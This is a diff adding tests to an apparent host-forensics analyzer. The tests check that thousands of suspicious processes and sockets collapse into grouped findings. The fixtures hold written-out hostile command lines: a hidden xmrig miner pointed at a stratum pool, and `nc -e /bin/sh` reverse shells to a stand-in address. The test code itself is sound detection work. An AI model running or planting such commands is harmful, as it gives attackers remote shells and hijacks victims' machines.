@@ -207,6 +207,90 @@ def test_sample_cases():
     assert clean.findings == []
 
 
+# ------------------------------------------------------------------------------------------------ bounded findings
+SS_HEAD = "Netid State     Recv-Q Send-Q         Local Address:Port Peer Address:Port          Process"
+PS_HEAD = "USER          PID %CPU %MEM      VSZ     RSS TTY      STAT START   TIME COMMAND"
+
+
+def _socket(local: str, peer: str, name: str, pid: int) -> str:
+    return f'tcp   ESTAB     0      0     {local} {peer}   users:(("{name}",pid={pid},fd=3))'
+
+
+def test_thousands_of_sockets_to_one_peer_are_one_finding(tmp_path):
+    case = tmp_path / "node"
+    case.mkdir()
+    ps = [
+        PS_HEAD,
+        "mlsvc          19  1.0  2.0  912340  88210 ?        Sl   Nov20   9:10 /opt/venv/bin/gunicorn app:app",
+    ]
+    ps += [f"mlsvc       {3000 + i:5d} 99.0  1.0  241322  16384 ?        Rl   09:13  55:21 /dev/shm/.x/xmrig -o "
+           "stratum+tcp://pool.example.net:3333" for i in range(2000)]  # fmt: skip
+    (case / "processes.txt").write_text("\n".join(ps) + "\n")
+    ss = [SS_HEAD, 'tcp   LISTEN    0      128     0.0.0.0:8000 0.0.0.0:*   users:(("gunicorn",pid=19,fd=5))']
+    peer_lines, other_lines = [], []
+    for i in range(5000):  # the model server: 5,000 sockets to one outside peer, and a few to a second one
+        ss.append(_socket(f"10.20.1.7:{20000 + i}", "198.51.100.23:443", "gunicorn", 19))
+        peer_lines.append(len(ss))
+        if i % 1000 == 0:
+            ss.append(_socket(f"10.20.1.7:{40000 + i}", "198.51.100.24:443", "gunicorn", 19))
+            other_lines.append(len(ss))
+        ss.append(_socket(f"10.20.1.7:{50000 + i % 9000}", "10.20.0.5:5432", "gunicorn", 19))
+    (case / "network.txt").write_text("\n".join(ss) + "\n")
+    result, evidence = run(case)
+    assert evidence.warnings == [] and result.warnings == []
+    procs = [f for f in result.findings if f.category == "suspicious_process"]
+    conns = [f for f in result.findings if f.category == "suspicious_connection"]
+    assert len(procs) == 1 and len(conns) == 2  # the internal database (10.20.0.5) gives none
+    miner = procs[0]
+    assert (miner.evidence["count"], miner.evidence["pids"], miner.evidence["pid"]) == (2000, 2000, 3000)
+    assert (miner.evidence["line"], miner.evidence["last_line"]) == (3, 2002)
+    assert miner.evidence["examples"] == ["pid 3000", "pid 3001", "pid 3002"]
+    assert miner.title.startswith("2,000 suspicious processes (mlsvc)") and "and 1,980 more" in miner.detail
+    main, other = conns
+    assert main.evidence["peer"] == "198.51.100.23:443" and other.evidence["peer"] == "198.51.100.24:443"
+    assert (main.evidence["count"], main.evidence["pids"], main.evidence["pid"]) == (5000, 1, 19)
+    assert (main.evidence["line"], main.evidence["last_line"]) == (peer_lines[0], peer_lines[-1])
+    assert main.evidence["examples"] == [f"pid 19 10.20.1.7:{p} ESTAB" for p in (20000, 20001, 20002)]
+    assert main.severity.value == "high" and "5,000 sockets" in main.title and len(main.detail) < 1000
+    assert (other.evidence["count"], other.evidence["line"], other.evidence["last_line"]) == (
+        5, other_lines[0], other_lines[-1])  # fmt: skip
+    rows = result.data["connections"]
+    assert rows["count"].tolist() == [5000, 5] and rows["line"].tolist() == [peer_lines[0], other_lines[0]]
+    assert (
+        result.summary == "Host state: 2,000 suspicious process(es) (2,000 high) and 5,005 connection(s) (5,005 high)."
+    )
+    assert len(result.data["processes"]) == 2000  # the table lists every flagged process; the findings group them
+
+
+def test_different_commands_and_peers_stay_apart(tmp_path):
+    case = tmp_path / "node"
+    case.mkdir()
+    (case / "processes.txt").write_text("\n".join([
+        PS_HEAD,
+        "llm          3195  0.0  0.0     5512    1888 ?        S    09:12   0:00 nc -e /bin/sh 198.51.100.9 9001",
+        "llm          3196  0.0  0.0     5512    1888 ?        S    09:12   0:00 nc -e /bin/sh 198.51.100.9 9002",
+        "llm          3197  0.0  0.0     5512    1888 ?        S    09:12   0:00 nc -e /bin/sh 198.51.100.9 9001",
+    ]) + "\n")  # fmt: skip
+    (case / "network.txt").write_text("\n".join([
+        SS_HEAD,
+        'tcp   ESTAB     0      0     10.20.1.7:41030 198.51.100.9:9001   users:(("nc",pid=3195,fd=3))',
+        'tcp   ESTAB     0      0     10.20.1.7:41031 198.51.100.9:9002   users:(("nc",pid=3196,fd=3))',
+        'tcp   ESTAB     0      0     10.20.1.7:41032 198.51.100.9:9001   users:(("nc",pid=3197,fd=3))',
+    ]) + "\n")  # fmt: skip
+    result, _ = run(case)
+    assert [(f.category, f.evidence["pid"], f.evidence["count"], f.evidence["line"], f.evidence["last_line"])
+            for f in result.findings] == [
+        ("suspicious_process", 3195, 2, 2, 4), ("suspicious_process", 3196, 1, 3, 3),
+        ("suspicious_connection", 3195, 2, 2, 4), ("suspicious_connection", 3196, 1, 3, 3),
+    ]  # fmt: skip
+    assert result.findings[1].title.startswith("Suspicious process 3196 (llm)")
+    assert result.findings[2].evidence["examples"] == [
+        "pid 3195 10.20.1.7:41030 ESTAB",
+        "pid 3197 10.20.1.7:41032 ESTAB",
+    ]
+    assert result.findings[2].evidence["pids"] == 2 and "2 pids" in result.findings[2].title
+
+
 # ------------------------------------------------------------------------------------------------ bad input
 def test_hostile_captures_do_not_crash(tmp_path):
     case = tmp_path / "bad"
